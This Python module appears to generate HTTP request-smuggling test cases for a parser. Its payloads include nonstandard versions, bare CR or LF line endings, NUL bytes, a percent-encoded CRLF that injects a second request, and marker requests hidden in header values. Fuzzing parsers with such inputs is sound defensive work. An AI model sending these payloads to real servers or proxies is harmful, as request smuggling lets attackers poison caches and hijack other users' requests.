"""Request lines, versions and line ends."""

from .model import C, END, INNER, MARKER, N, TARGET, attack, request, sized

SIZE = len(INNER)
KEPT, CHUNKED = "Connection: keep-alive", "Transfer-Encoding: chunked"
ESCAPED = "%20HTTP/1.1%0d%0a%0d%0aGET%20"

VERSIONS = [
    ("HTTP/0.9", f"GET {TARGET}\r\n{INNER}"),
    ("HTTP/0.9 with fields", sized(line=f"GET {TARGET}")),
    ("0.9 as a number", sized(line=f"POST {TARGET} HTTP/0.9")),
    ("HTTP/1.0 kept alive", sized(KEPT, line=f"POST {TARGET} HTTP/1.0")),
    ("HTTP/1.0 in chunks", request(KEPT, CHUNKED, line=f"POST {TARGET} HTTP/1.0", body=END + INNER)),
    ("HTTP/1.2", sized(line=f"POST {TARGET} HTTP/1.2")),
    ("HTTP/2.0", sized(line=f"POST {TARGET} HTTP/2.0")),
    ("the preface of HTTP/2", f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{INNER}"),
    ("a space behind it", sized(line=f"POST {TARGET} HTTP/1.1 ")),
]

ENDS = [
    ("a bare LF everywhere", f"POST {TARGET} HTTP/1.1\nHost: h\nContent-Length: {SIZE}\n\n{INNER}"),
    ("a bare CR everywhere", f"POST {TARGET} HTTP/1.1\rHost: h\rContent-Length: {SIZE}\r\r{INNER}"),
    ("LF CR", f"POST {TARGET} HTTP/1.1\n\rHost: h\n\rContent-Length: {SIZE}\n\r\n\r{INNER}"),
    ("a bare LF ends the head", f"POST {TARGET} HTTP/1.1\r\nHost: h\r\nContent-Length: {SIZE}\r\n\n{INNER}"),
    ("bare LFs end the head within a line", f"GET {TARGET} HTTP/1.1\r\nHost: h\r\nX: \n\n{INNER}", N, C),
    ("a marker in a value, behind CRs", request(f"X: \r\rGET {MARKER} HTTP/1.1", "Y: z", body="")),
    ("a marker in a value, behind LFs", request(f"X: \n\nGET {MARKER} HTTP/1.1", "Host: h", body=""), N, C),
    ("a marker behind a CR in the target", f"GET {TARGET}\r{INNER}"),
    ("a marker behind a LF in the target", f"GET {TARGET} HTTP/1.1\nHost: h\n\n{INNER}", N, C),
    ("empty lines before it", "\r\n\r\n\r\n" + sized()),
    ("NUL before it", "\x00" + sized()),
    ("a first field that begins with a space", sized("Host: h", host=" Content-Length: 0")),
]

LINES = [
    ("a target with CR LF escaped", request(line=f"GET {TARGET}{ESCAPED}{MARKER} HTTP/1.1", body="")),
    ("two spaces", sized(line=f"POST  {TARGET}  HTTP/1.1")),
    ("tabs", sized(line=f"POST\t{TARGET}\tHTTP/1.1")),
    ("a space in the target", sized(line=f"POST {TARGET} x HTTP/1.1")),
    ("NUL in the target", sized(line=f"POST {TARGET}\x00 HTTP/1.1")),
    ("a fragment", sized(line=f"POST {TARGET}#x HTTP/1.1")),
    ("a method with a colon", sized(line=f"POST: {TARGET} HTTP/1.1")),
    ("CONNECT", request(line="CONNECT h:80 HTTP/1.1"), C),
    ("OPTIONS *", sized(line="OPTIONS * HTTP/1.1")),
    ("TRACE with a body", sized(line=f"TRACE {TARGET} HTTP/1.1")),
    ("a target that is too long", sized(line=f"POST {TARGET}{'a' * 17_000} HTTP/1.1")),
    ("a target longer than kith takes", sized(line=f"POST {TARGET}{'a' * 16_300} HTTP/1.1")),
]


def lines():
    for kind, raws in [("version", VERSIONS), ("line end", ENDS), ("line", LINES)]:
        for name, raw, *own in raws:
            yield attack(f"{kind}, {name}", raw, own=own)
